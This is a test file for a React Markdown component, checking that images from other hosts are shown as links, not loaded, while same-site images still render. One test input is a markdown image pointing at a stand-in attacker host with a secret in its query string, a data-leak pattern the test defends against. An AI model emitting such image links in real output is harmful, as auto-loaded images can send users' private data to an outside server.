import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import Markdown from './Markdown';

describe('Markdown images', () => {
  it('shows an image from another host as a link with its text and URL, and makes no <img>', () => {
    const { container } = render(<Markdown text={'Look: ![the diagram](https://evil.example/leak.png?q=secret) and ![](//cdn.example/x.png)'} />);
    expect(container.querySelector('img')).toBeNull();
    const link = screen.getByRole('link', { name: 'the diagram (https://evil.example/leak.png?q=secret)' });
    expect(link).toHaveAttribute('href', 'https://evil.example/leak.png?q=secret');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
    expect(screen.getByRole('link', { name: '//cdn.example/x.png' })).toHaveAttribute('href', '//cdn.example/x.png');
  });

  it('shows an image inside a link as text, never a link inside a link', () => {
    const { container } = render(<Markdown text={'[![badge](https://img.example/b.svg)](https://example.com/)'} />);
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelectorAll('a a')).toHaveLength(0);
    expect(screen.getByRole('link', { name: 'badge (https://img.example/b.svg)' })).toHaveAttribute('href', 'https://example.com/');
  });

  it('still shows an image from this site', () => {
    render(<Markdown text={'![chart](/static/chart.png)'} />);
    expect(screen.getByRole('img', { name: 'chart' })).toHaveAttribute('src', '/static/chart.png');
  });
});
